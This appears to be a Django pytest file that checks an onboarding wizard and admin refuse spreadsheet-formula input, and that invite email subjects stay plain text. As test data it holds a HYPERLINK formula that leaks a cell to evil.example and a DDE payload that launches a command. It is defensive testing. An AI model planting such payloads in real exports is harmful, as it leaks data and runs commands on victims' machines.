"""Issue 18, item 12's smaller ones (the Content-Security-Policy in a browser is
test_security_browser.py): formulas refused in the wizard and the admin as in the
import; the invite subject is plain text, not HTML-escaped."""

import uuid

import pytest
from django.test import Client

from onboarding.invite_mail import render_invite_email
from onboarding.models import Device, Space

from . import pages_helpers
from .factories import building, tenant_with_invite, unit
from .test_pages_views import SPACE, start, step_url

staff_user, staff = pages_helpers.staff_user, pages_helpers.staff
pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize("field", ["b-name", "b-address_line_one", "b-city", "u-name"])
def test_the_wizard_refuses_a_formula(staff, field):
    wizard = start(staff)
    response = staff.post(step_url(wizard, 1), {**SPACE, field: FORMULA, "token": uuid.uuid4()})
    assert response.status_code == 200
    assert "which a spreadsheet would run as a formula" in response.content.decode()
    assert Space.objects.count() == 0


@pytest.fixture
def support():
    user = pages_helpers.make_user("sam", None)
    user.is_superuser = True
    user.save()
    client = Client()
    client.force_login(user)
    return client


def test_the_admin_refuses_a_formula(support):
    response = support.post(
        "/admin/onboarding/space/add/",
        {"name": "@SUM(1+1)*cmd|' /C calc'!A0", "category": "APARTMENT_BUILDING",
         "address_line_one": "Weg 1", "postcode": "8004", "city": "Zürich"},
    )  # fmt: skip
    assert response.status_code == 200
    assert "which a spreadsheet would run as a formula" in response.content.decode()
    assert not Space.objects.exists()


def test_a_device_typed_by_hand_and_a_plain_negative_number(support):
    home = building()
    flat = unit(home, "-1")  # a basement: a plain negative number is no formula
    assert flat.pk
    response = support.post(
        "/admin/onboarding/device/add/",
        {"space": flat.pk, "name": "+41 meter", "medium": "ELECTRICITY",
         "device_type": "SMART_METER", "is_main_device": "on"},
    )  # fmt: skip
    assert "which a spreadsheet would run as a formula" in response.content.decode()
    assert not Device.objects.exists()


def test_the_invite_subject_is_plain_text():
    home = building('Müller & Söhne "Lindenhof"')
    flat = unit(home, "Flat <3> & 'B'")
    invite = tenant_with_invite(flat, "ben@example.org")
    subject, body = render_invite_email(invite, "en")
    assert subject == "Your invitation to see your energy data for Flat <3> & 'B'"
    assert "&amp;" not in subject and "&lt;" not in subject and "&#x27;" not in subject
    assert "&amp;" not in body and 'Müller & Söhne "Lindenhof"' in body
